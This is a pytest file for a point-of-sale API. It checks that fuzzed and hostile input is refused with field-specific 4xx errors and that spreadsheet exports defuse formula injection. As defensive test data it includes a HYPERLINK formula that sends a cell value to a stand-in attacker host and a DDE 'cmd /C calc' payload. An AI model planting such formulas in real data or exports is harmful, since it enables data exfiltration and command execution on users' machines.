"""What a fuzzer and a hostile tester sent in, answered with a 4xx naming the field, never a
5xx, on both databases: control characters and NUL, ids beyond the columns, JSON nested too
deep, numbers written with other digits; and what comes back out in spreadsheets."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from tests.support import auth, post_sale, row_counts, simple_sale


def _problem(response, status: int) -> dict:
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    return response.get_json()


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/api/v1/auth/token", {"email": "a\u0000@x", "password": "x" * 12}, "email"),
        ("/api/v1/auth/token", {"email": "a@x", "password": "pass\u0000word"}, "password"),
        ("/api/v1/devices/pair", {"code": "ABCD\u0000EFG"}, "code"),
    ],
)
def test_nul_in_an_unauthenticated_body_is_a_422_naming_the_field(
    app, client, fair, path, body, field
):
    before = row_counts(app)
    problem = _problem(client.post(path, json=body), 422)
    assert list(problem["errors"]) == [field]
    assert row_counts(app) == before


@pytest.mark.parametrize(
    "text", ["Miel\u0007 de jujubier", "Miel\u0000", "Miel\x1b[31m", "Mi\ud800el"]
)
def test_control_characters_in_a_product_name_are_refused(app, client, fair, text):
    before = row_counts(app)
    response = client.post(
        f"/api/v1/exhibitors/{fair.a.id}/products",
        # As JSON escapes, the way a lone surrogate can travel at all.
        data=json.dumps({"name": text, "name_ar": "عسل", "unit": "kg", "unit_price": "10.00"}),
        content_type="application/json",
        headers=auth(fair.a.token),
    )
    assert _problem(response, 422)["errors"] == {"name": [response.get_json()["errors"]["name"][0]]}
    assert "control character" in response.get_json()["errors"]["name"][0]
    assert row_counts(app) == before


def test_control_characters_deep_in_a_sale_and_in_a_query_are_named(client, fair):
    body = simple_sale(fair.a.products["pot"])
    body["payments"][0]["method"] = "cash\u0000"
    problem = _problem(post_sale(client, fair.a.token, fair.a.id, body), 422)
    assert list(problem["errors"]) == ["payments.0.method"]
    listing = client.get(
        f"/api/v1/exhibitors/{fair.a.id}/sales?date=2026-01-01%00", headers=auth(fair.a.token)
    )
    assert list(_problem(listing, 422)["errors"]) == ["date"]


def test_tab_and_new_line_stay_allowed_in_free_text(client, fair):
    sale = post_sale(client, fair.a.token, fair.a.id, simple_sale(fair.a.products["pot"]))
    voided = client.post(
        f"/api/v1/sales/{sale.get_json()['id']}/void",
        json={"reason": "Erreur de saisie\nle client a changé d'avis\t(pot)"},
        headers=auth(fair.a.token),
    )
    assert voided.status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/sales/9223372036854775808",
        "/api/v1/sales/2147483648",
        "/api/v1/exhibitors/2147483648",
        "/api/v1/exhibitors/2147483648/sales",
        "/api/v1/events/99999999999999999999999/reports/impact",
    ],
)
def test_ids_beyond_the_columns_range_are_404(client, fair, path):
    _problem(client.get(path, headers=auth(fair.organiser_token)), 404)


def test_json_nested_ten_thousand_deep_is_a_400(client, fair):
    deep = "[" * 10_000 + "]" * 10_000
    for path in ("/api/v1/auth/token", f"/api/v1/exhibitors/{fair.a.id}/sales"):
        response = client.post(
            path,
            data=deep,
            content_type="application/json",
            headers={**auth(fair.a.token), "Idempotency-Key": "deep"},
        )
        _problem(response, 400)


@pytest.mark.parametrize(
    ("where", "text"),
    [
        ("quantity", "1\n"),
        ("quantity", "1٠"),
        ("quantity", "１"),
        ("amount", "40.00\n"),
        ("amount", "4٠.٠٠"),
        ("amount", "4０.00"),
    ],
)
def test_numbers_are_ascii_digits_only_the_whole_string(app, client, fair, where, text):
    body = {
        "lines": [{"product_id": fair.b.products["saffron"], "quantity": "1"}],
        "payments": [{"method": "cash", "amount": "35.00"}],
    }
    if where == "quantity":
        body["lines"][0]["quantity"] = text
        field = "lines.0.quantity"
    else:
        body["payments"][0]["amount"] = text
        field = "payments.0.amount"
    before = row_counts(app)
    problem = _problem(post_sale(client, fair.b.token, fair.b.id, body), 422)
    assert field in problem["errors"]
    after = row_counts(app)
    # Nothing written but the refusal's journal entry (sale.refused), for the organiser.
    assert after["audit_events"] == before["audit_events"] + 1
    assert {k: v for k, v in after.items() if not k.startswith("audit_")} == {
        k: v for k, v in before.items() if not k.startswith("audit_")
    }


def test_a_sale_of_zero_with_no_payment_is_recorded(client, fair):
    body = {
        "lines": [{"product_id": fair.a.products["pot"], "quantity": "1", "discount": "130.00"}],
        "payments": [],
    }
    response = post_sale(client, fair.a.token, fair.a.id, body)
    assert response.status_code == 201, response.get_data(as_text=True)
    sale = response.get_json()
    assert sale["total"] == "0.00" and sale["payments"] == []
    again = client.get(f"/api/v1/sales/{sale['id']}", headers=auth(fair.a.token)).get_json()
    assert again["lines"][0]["line_total"] == "0.00"


FORMULA = '=HYPERLINK("http://evil.example/?x="&B3,"Miel bio")'


def _sell_named(client, fair, name: str) -> None:
    product = client.post(
        f"/api/v1/exhibitors/{fair.a.id}/products",
        json={"name": name, "name_ar": "عسل", "unit": "piece", "unit_price": "10.00"},
        headers=auth(fair.a.token),
    )
    assert product.status_code == 201
    sold = post_sale(
        client, fair.a.token, fair.a.id, simple_sale(product.get_json()["id"], amount="10.00")
    )
    assert sold.status_code == 201


def test_names_that_look_like_formulas_stay_text_in_exports(client, fair):
    _sell_named(client, fair, FORMULA)
    _sell_named(client, fair, "@SUM(1+1)*cmd|' /C calc'!A0")
    url = f"/api/v1/events/{fair.event_id}/reports/impact"
    book = load_workbook(
        io.BytesIO(client.get(f"{url}?format=xlsx", headers=auth(fair.organiser_token)).data)
    )
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formula_cells = [cell for cell in cells if cell.data_type == "f"]
    assert formula_cells == []
    assert any(cell.value == FORMULA and cell.data_type == "s" for cell in cells)
    text = client.get(f"{url}?format=csv", headers=auth(fair.organiser_token)).data.decode(
        "utf-8-sig"
    )
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert not any(value.startswith(("=", "+", "@")) for value in values)
    assert "Coopérative Imilchil" in text


def test_a_control_character_stored_before_the_door_closed_does_not_break_exports(
    app, client, fair
):
    from pos.catalogue.models import Product
    from pos.extensions import db

    with app.app_context():
        db.session.get(Product, fair.a.products["pot"]).name = "Pot\u0007 de miel"
        db.session.commit()
    assert (
        post_sale(client, fair.a.token, fair.a.id, simple_sale(fair.a.products["pot"])).status_code
        == 201
    )
    url = f"/api/v1/events/{fair.event_id}/reports/impact"
    for fmt in ("xlsx", "csv", "pdf"):
        response = client.get(f"{url}?format={fmt}", headers=auth(fair.organiser_token))
        assert response.status_code == 200, fmt
    book = load_workbook(
        io.BytesIO(client.get(f"{url}?format=xlsx", headers=auth(fair.organiser_token)).data)
    )
    names = [row[0].value for row in book["Produits"].iter_rows(min_row=2)]
    assert "Pot de miel" in names
